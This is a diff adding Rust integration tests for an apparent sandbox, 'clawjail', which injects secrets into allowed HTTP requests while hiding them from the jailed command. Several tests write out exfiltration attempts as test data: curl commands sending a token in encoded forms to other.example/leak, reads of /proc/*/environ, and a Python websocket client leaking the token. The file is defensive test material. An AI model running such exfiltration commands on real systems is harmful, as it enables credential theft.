@@ -1,0 +1,214 @@
+//! Secrets that can be used and not be read.
+
+use super::in_each_tier;
+use super::requests::assert_denied;
+use super::support::jail::{Jail, Ran};
+use super::support::place::Place;
+use super::world::World;
+
+/// What nobody in a jail may ever see.
+const SECRET: &str = "hunter2-the-real-one";
+
+/// A profile whose secret comes from `source`.
+fn profile(source: &str) -> String {
+    format!(
+        r#"
+summary = "Test."
+extends = "untrusted"
+[egress]
+allow = ["other.example"]
+[[egress.http]]
+host = "good.example"
+methods = ["GET", "POST"]
+paths = ["/api/**", "/headers"]
+inject = {{ header = "Authorization", secret = "test", format = "Bearer {{}}" }}
+[[egress.http]]
+host = "a.wild.example"
+methods = ["*"]
+paths = ["/**"]
+websocket = true
+inject = {{ header = "Authorization", secret = "test", basic = "me" }}
+[egress.secrets.test]
+env = "TEST_TOKEN"
+{source}
+"#
+    )
+}
+
+fn with(world: &World, place: &Place, source: &str, script: &str) -> Ran {
+    world.profile("secret", &profile(source));
+    let jail = Jail::new(place).profile("secret").patient(80).environment("OUTER_SECRET", SECRET);
+    jail.finish(world.start(place, &jail, &["bash", "-c", script]))
+}
+
+fn by_environment(world: &World, place: &Place, script: &str) -> Ran {
+    with(world, place, "environment = \"OUTER_SECRET\"", script)
+}
+
+#[test]
+fn a_secret_is_put_into_allowed_requests_and_the_command_never_sees_it() {
+    in_each_tier(|world, place| {
+        let token = &place.token;
+        let ran = by_environment(
+            world,
+            place,
+            &format!(
+                "echo \"$TEST_TOKEN\"; env | grep -c {SECRET}; curl -sS https://good.example/api/{token}; \
+                 curl -sS -H \"Authorization: Bearer $TEST_TOKEN\" https://good.example/api/{token}2; \
+                 curl -sS -H \"Authorization: Bearer own\" https://good.example/headers; \
+                 curl -sS -u me:$TEST_TOKEN https://a.wild.example/headers; cat /proc/*/environ 2>/dev/null | grep -c {SECRET}"
+            ),
+        );
+        let text = ran.text();
+        let lines: Vec<&str> = text.lines().collect();
+        assert!(
+            lines[0].starts_with("clawjail") && lines[0].ends_with("-test") && lines[0].len() > 40,
+            "{}",
+            ran.whole()
+        );
+        assert_eq!(
+            lines[1..4],
+            [
+                "0",
+                &format!("https good.example GET /api/{token} 0"),
+                &format!("https good.example GET /api/{token}2 0")
+            ]
+        );
+        assert!(!text.contains(SECRET) && !text.contains("aHVudGVy"), "{}", ran.whole());
+        // What the server repeats is made unreadable.
+        assert!(text.contains(&format!("authorization: Bearer {}", "*".repeat(SECRET.len()))), "{}", ran.whole());
+        assert!(world.saw(&format!("authorization good.example Bearer {SECRET}")));
+        assert!(!world.log().contains("Bearer own"));
+        assert!(world.saw("authorization a.wild.example Basic bWU6aHVudGVyMi10aGUtcmVhbC1vbmU="), "{}", world.log());
+        assert!(!ran.verdict.to_string().contains(SECRET));
+        assert_eq!(ran.own_lines(), [""; 0], "{}", ran.whole());
+    });
+}
+
+/// C14: whatever stands for a secret leaves nowhere, in no form, and the denial is told.
+#[test]
+fn what_stands_for_a_secret_is_blocked_on_its_way_to_anybody_else() {
+    in_each_tier(|world, place| {
+        let script = r#"
+T=$TEST_TOKEN
+t() { curl -sS -o /dev/null -w '%{http_code} ' "$@"; }
+E=$(printf %s "$T" | od -An -tx1 | tr -d '\n' | tr ' ' %)
+B=$(printf 'x%s' "$T" | base64 -w0)
+t -H "Authorization: Bearer $T" https://other.example/leak
+t -H "X-Any: $T" https://other.example/leak
+t -u "me:$T" https://other.example/leak
+t "https://other.example/leak?t=$T"
+t "https://other.example/leak/$T"
+t "https://other.example/leak?t=$E"
+t -H "X: $B" https://other.example/leak
+t -d "$T" https://other.example/leak
+t -d "token=$E" https://other.example/leak
+t -d "$B" https://other.example/leak
+(head -c 300000 /dev/zero | tr '\0' a; printf %s "$T"; head -c 100 /dev/zero) | t --data-binary @- https://other.example/leak
+t -H 'Transfer-Encoding: chunked' -d "$T" https://other.example/leak
+t -H "X-Any: $T" http://other.example/leak
+t -d "$T" http://other.example/leak
+t -H "X-Any: $T" https://good.example/api/leak
+t -d "$T" https://good.example/api/leak
+t "https://good.example/api/leak?t=$T"
+t -d fine https://other.example/fine
+"#;
+        let ran = by_environment(world, place, script);
+        assert_eq!(ran.text(), format!("{}200", "403 ".repeat(17)), "{}", ran.whole());
+        let log = world.log();
+        assert!(!log.lines().any(|line| line.starts_with("placeholder") && line.contains("leak")), "{log}");
+        assert!(!log.lines().any(|line| line.contains("authorization other.example")), "{log}");
+        assert_denied(
+            &ran,
+            "request GET other.example:443/leak",
+            "what stands for a secret does not leave to this host",
+        );
+        assert_denied(&ran, "request POST good.example:443/api/leak", "leaves only in the field `authorization`");
+        assert!(ran.own_lines().iter().any(|line| line.contains("what stands for a secret")), "{}", ran.whole());
+    });
+}
+
+#[test]
+fn what_stands_for_a_secret_leaves_in_no_frame_of_a_websocket() {
+    in_each_tier(|world, place| {
+        place.write(
+            "client.py",
+            r#"
+import socket, ssl, os
+context = ssl.create_default_context()
+c = context.wrap_socket(socket.create_connection(('a.wild.example', 443)), server_hostname='a.wild.example'); c.settimeout(5)
+c.sendall(b'GET /socket HTTP/1.1\r\nHost: a.wild.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n'
+    b'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n')
+assert c.recv(4096).startswith(b'HTTP/1.1 101')
+def say(text):
+    mask = os.urandom(4)
+    c.sendall(bytes([0x81, 0x80 | len(text)]) + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(text)))
+    return c.recv(200)
+assert say(b'fine') == b'\x81\x04fine'
+try:
+    print(say(os.environ['TEST_TOKEN'].encode()))
+except OSError:
+    print(b'')
+"#,
+        );
+        let ran = by_environment(world, place, "/usr/bin/python3 client.py");
+        assert_eq!(ran.text(), "b''", "{}", ran.whole());
+        assert!(world.saw("frame fine"));
+        assert!(!world.log().contains("frame clawjail"), "{}", world.log());
+        assert!(ran.verdict["denials"].to_string().contains("what stands for a secret"), "{}", ran.verdict["denials"]);
+    });
+}
+
+#[test]
+fn placeholders_are_of_one_jail_alone() {
+    in_each_tier(|world, place| {
+        let [one, other] = [(); 2].map(|()| by_environment(world, place, "echo $TEST_TOKEN").text());
+        assert_ne!(one, other);
+        let script = format!("curl -sS -H 'X: {one}' https://other.example/old; echo; env | grep -c TEST_TOKEN");
+        let ran = by_environment(world, place, &script);
+        assert!(ran.text().contains("https other.example GET /old 0"), "{}", ran.whole());
+    });
+}
+
+#[test]
+fn each_source_gives_its_secret() {
+    in_each_tier(|world, place| {
+        let is_root = place.account().uid == 0;
+        let path = world.secret("file-secret", &format!("{SECRET}\n"), 0o600);
+        let mut sources =
+            vec!["environment = \"OUTER_SECRET\"".to_owned(), format!("command = [\"/bin/echo\", \"{SECRET}\"]")];
+        if is_root {
+            sources.push(format!("file = \"{path}\""));
+        }
+        for source in sources {
+            let path = format!("/api/{}{}", place.token, source.len());
+            let ran = with(world, place, &source, &format!("curl -sS https://good.example{path}"));
+            assert_eq!(ran.text(), format!("https good.example GET {path} 0"), "{source}: {}", ran.whole());
+            assert!(world.saw(&format!("authorization good.example Bearer {SECRET} {path}")), "{source}");
+        }
+    });
+}
+
+/// C12: a request that lacks its secret is denied, and never sent bare.
+#[test]
+fn a_source_that_fails_denies_its_requests_and_no_others() {
+    in_each_tier(|world, place| {
+        let open = world.secret("open-secret", SECRET, 0o644);
+        for (source, why) in [
+            ("environment = \"NO_SUCH_VARIABLE\"".to_owned(), "is not set"),
+            ("file = \"/etc/clawjail/missing\"".to_owned(), "cannot be opened"),
+            ("command = [\"/bin/false\"]".to_owned(), "its program failed"),
+            ("command = [\"/bin/sleep\", \"30\"]\ntimeout = \"200ms\"".to_owned(), "took too long"),
+            ("command = [\"/bin/echo\"]".to_owned(), "is empty"),
+            ("credential = \"test\"".to_owned(), "systemd gave"),
+            (format!("file = \"{open}\""), "can be read by others"),
+        ] {
+            let script =
+                "curl -sS -w '%{http_code} ' https://good.example/api/bare; curl -sS https://other.example/beside";
+            let ran = with(world, place, &source, script);
+            assert!(ran.text().contains("403 https other.example GET /beside 0"), "{source}: {}", ran.whole());
+            assert!(ran.text().contains(why), "{source}: {}", ran.whole());
+        }
+        assert!(!world.log().contains("/api/bare"), "{}", world.log());
+    });
+}
